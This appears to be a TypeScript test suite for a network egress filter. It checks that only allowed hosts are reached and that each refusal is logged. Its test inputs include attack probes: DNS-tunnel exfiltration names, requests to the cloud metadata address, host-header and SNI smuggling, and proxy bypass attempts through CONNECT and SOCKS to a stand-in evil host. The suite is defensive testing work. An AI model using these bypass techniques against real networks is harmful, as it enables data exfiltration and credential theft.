/** What a server that ignores every proxy setting reaches, and what it does not, as root and as an ordinary user. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { callers, missing } from "./fixture/network.ts";
import { openScene, type Scene, told } from "./fixture/scene.ts";

const why = missing();
if (why !== undefined) console.log(`skipped: ${why}`);

describe.skipIf(why !== undefined).each(callers)("a server's network, started by %s", (as) => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await openScene({
      as,
      allow: ["api.example.com:443", "api.example.com:80", "api.example.com:2525", "api.example.com:5432"],
      tools: ["late.example.com:5432"],
    });
  });
  afterAll(() => scene.close());

  test("an allowed name is reached by TLS and in plain, without any proxy setting", async () => {
    const { network, broker, env } = scene;
    const outcomes = await network.client(
      [
        { kind: "fetch", url: "https://api.example.com/" },
        { kind: "fetch", url: "http://api.example.com/" },
        { kind: "lookup", name: "api.example.com" },
        { kind: "tcp", host: "api.example.com", port: 2525, send: [] },
        { kind: "tcp", host: "api.example.com", port: 5432, send: ["\0\0\0\bquery", "end"] },
      ],
      env,
    );
    expect(outcomes.slice(0, 2)).toMatchObject([
      { how: "200", text: "hello api.example.com" },
      { how: "200", text: "hello api.example.com" },
    ]);
    expect(outcomes[2]?.text, "an address that is no address of this machine").toBe("198.18.1.0");
    expect(outcomes[3]).toMatchObject({ text: "220 welcome\r\n", how: "end" });
    expect(outcomes[4], "each direction ends on its own").toMatchObject({ text: "\0\0\0\bquerygoodbye", how: "end" });
    const seen = broker.drain();
    expect(told(seen)).toEqual(
      expect.arrayContaining([
        "dns-query success api.example.com - -",
        "net-connect success api.example.com 443 -",
        "net-connect success api.example.com 80 -",
        "net-connect success api.example.com 2525 -",
        "net-send success api.example.com 443 -",
      ]),
    );
    expect(seen.every(({ grade }) => grade === "broker")).toBe(true);
    expect(seen.find(({ action }) => action === "net-connect")?.address).toBe("93.184.215.14");
  });

  test("a name that is not allowed does not exist, and no question is passed on", async () => {
    const { network, broker, internet } = scene;
    internet.resolved.length = 0;
    const secret = `${"a2v5".repeat(15)}.${"c2VjcmV0".repeat(7)}.tunnel.example.net`;
    const outcomes = await network.client([
      { kind: "lookup", name: "evil.example.net" },
      { kind: "lookup", name: secret },
      { kind: "lookup", name: "late.example.com" },
      { kind: "resolve", name: "api.example.com", type: "AAAA" },
      { kind: "resolve", name: secret, type: "TXT" },
    ]);
    expect(outcomes.map(({ how }) => how)).toEqual(["ENOTFOUND", "ENOTFOUND", "ENOTFOUND", "ENODATA", "ENOTFOUND"]);
    expect(internet.resolved).toEqual([]);
    const seen = told(broker.drain());
    expect(seen).toContain("dns-query denied evil.example.net - egress-not-in-scope");
    expect(seen).toContain(`dns-query denied ${secret.toLowerCase()} - egress-not-in-scope`);
    expect(seen).toContain("dns-query denied late.example.com - egress-not-granted-now");
  });

  test("addresses lead nowhere, nor do ports and IPv6 that nobody listens to", async () => {
    const { network, broker, internet } = scene;
    internet.connected.length = 0;
    const outcomes = await network.client([
      { kind: "fetch", url: "https://93.184.215.14/" },
      { kind: "fetch", url: "http://169.254.169.254/latest/meta-data/" },
      { kind: "tcp", host: "127.0.0.1", port: 443, send: ["x"] },
      { kind: "tcp", host: "93.184.215.14", port: 9999, send: ["x"] },
      { kind: "tcp", host: "2606:4700::1111", port: 443, send: ["x"] },
      { kind: "tcp", host: "198.18.77.7", port: 80, send: ["x"] },
    ]);
    expect(outcomes.map(({ how }) => how)).toEqual([
      "ECONNRESET",
      expect.stringMatching(/ECONNRESET|UND_ERR_SOCKET/),
      "ECONNRESET",
      "ECONNREFUSED",
      "ENETUNREACH",
      "ECONNRESET",
    ]);
    expect(internet.connected).toEqual([]);
    const seen = told(broker.drain());
    expect(seen).toContain("net-connect denied 93.184.215.14 443 egress-address-not-listed");
    expect(seen).toContain("net-connect denied 169.254.169.254 80 egress-address-not-listed");
  });

  test("the name in the first bytes must be the name that was granted", async () => {
    const { network, broker, internet, env } = scene;
    const host = "api.example.com";
    const request = (name: string, target = "/"): string => `GET ${target} HTTP/1.1\r\nHost: ${name}\r\n\r\n`;
    const before = internet.received;
    const outcomes = await network.client(
      [
        { kind: "tls", host, port: 443, servername: "other.example.com" },
        { kind: "tls", host, port: 443 },
        { kind: "tcp", host, port: 443, send: [request(host)] },
        { kind: "tcp", host, port: 80, send: [request("other.example.com")] },
        { kind: "tcp", host, port: 80, send: [request(host, "http://other.example.com/")] },
        { kind: "tcp", host, port: 80, send: ["SSH-2.0-client\r\n"] },
        { kind: "tls", host, port: 5432, servername: "other.example.com" },
        { kind: "tcp", host, port: 5432, send: [request("other.example.com")] },
        { kind: "tcp", host, port: 5432, send: [request(`${host}:5432`), "end"] },
        { kind: "tcp", host, port: 5432, send: ["EHLO there\r\n", "end"] },
      ],
      env,
    );
    expect(outcomes.slice(0, 8).map(({ how }) => how)).toEqual(Array.from({ length: 8 }, () => "ECONNRESET"));
    expect(outcomes.slice(8)).toMatchObject([{ how: "end" }, { how: "end", text: "EHLO there\r\ngoodbye" }]);
    const allowed = request(`${host}:5432`).length + "EHLO there\r\n".length;
    expect(internet.received - before, "not one byte of the others reached the destination").toBe(allowed);
    const seen = broker.drain();
    const denied = seen.filter(({ outcome }) => outcome === "denied");
    const early = told(seen).filter((line) => /^net-(connect success|send).* (80|443) /.test(line));
    expect(early, "what was refused is not told as a success first").toEqual([]);
    expect(denied.map(({ detail }) => detail)).toEqual([
      "egress-server-name-differs",
      "egress-server-name-absent",
      "egress-not-tls",
      "egress-host-differs",
      "egress-host-differs",
      "egress-not-http",
      "egress-server-name-differs",
      "egress-host-differs",
    ]);
    // C21: a refusal names the host that was asked for.
    const named = denied.filter(({ detail }) => detail?.endsWith("-differs") === true);
    expect(named.map(({ domain, port, address }) => [domain, port, address])).toEqual(
      [443, 80, 80, 5432, 5432].map((port) => ["other.example.com", port, undefined]),
    );
  });

  test("attack: a later request on the same connection for another name is refused, and on record", async () => {
    const { network, broker, internet } = scene;
    const host = "api.example.com";
    const request = (name: string): string => `GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`;
    const before = internet.received;
    const send = [request(host) + request("other.example.com")];
    const [outcome] = await network.client([{ kind: "tcp", host, port: 80, send }]);
    expect(outcome?.how).toBe("ECONNRESET");
    expect(internet.received - before).toBeLessThanOrEqual(request(host).length);
    expect(told(broker.drain())).toContain("net-connect denied other.example.com 80 egress-host-differs");
  });

  test("clients that insist on a proxy are held to the same decision", async () => {
    const { network, broker } = scene;
    const hello = (host: string, port: number): string => `CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const socks = (host: string, port: number): string =>
      `hex:05010003${[host.length, ...Buffer.from(host), port >> 8, port & 255].map(hex).join("")}`;
    const proxy = { host: "198.18.0.1", port: 3128 };
    const socksProxy = { host: "198.18.0.1", port: 1080 };
    const outcomes = await network.client([
      { kind: "tcp", ...proxy, send: [hello("api.example.com", 5432), "through", "end"] },
      { kind: "tcp", ...proxy, send: [hello("evil.example.net", 443)] },
      { kind: "tcp", ...proxy, send: [hello("169.254.169.254", 80)] },
      { kind: "tcp", ...proxy, send: ["GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n"] },
      { kind: "tcp", ...socksProxy, send: ["hex:050100", socks("api.example.com", 5432), "through", "end"] },
      { kind: "tcp", ...socksProxy, send: ["hex:050100", socks("evil.example.net", 443)] },
      { kind: "tcp", ...socksProxy, send: ["hex:050102"] },
    ]);
    expect(outcomes.map(({ text }) => text.split("\r\n")[0])).toEqual([
      "HTTP/1.1 200 Connection established",
      "HTTP/1.1 403 Forbidden",
      "HTTP/1.1 403 Forbidden",
      "HTTP/1.1 403 Forbidden",
      "\x05\0\x05\0\0\x01\0\0\0\0\0\0throughgoodbye",
      "\x05\0\x05\x02\0\x01\0\0\0\0\0\0",
      "\x05\xff",
    ]);
    expect(outcomes[0]?.text).toMatch(/throughgoodbye$/);
    expect(outcomes.every(({ how }) => how === "end")).toBe(true);
    const seen = told(broker.drain());
    expect(seen).toContain("net-connect denied evil.example.net 443 egress-not-in-scope");
    expect(seen).toContain("net-connect denied 169.254.169.254 80 egress-address-not-listed");
    expect(seen).toContain("net-connect denied - 3128 egress-proxy-request");
  });
});

function hex(byte: number): string {
  return byte.toString(16).padStart(2, "0");
}
